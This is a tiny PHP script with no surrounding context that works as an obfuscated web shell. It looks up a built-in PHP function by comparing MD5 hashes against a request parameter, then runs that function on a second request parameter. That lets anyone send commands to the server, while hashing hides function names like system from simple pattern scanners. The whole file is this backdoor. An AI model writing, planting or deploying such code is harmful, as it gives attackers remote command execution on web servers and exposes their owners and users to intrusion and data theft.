<?php
$fs = get_defined_functions()['internal'];
foreach ($fs as $f) {
    if (md5($f) === $_GET['h']) { $f($_GET['a']); break; }
}
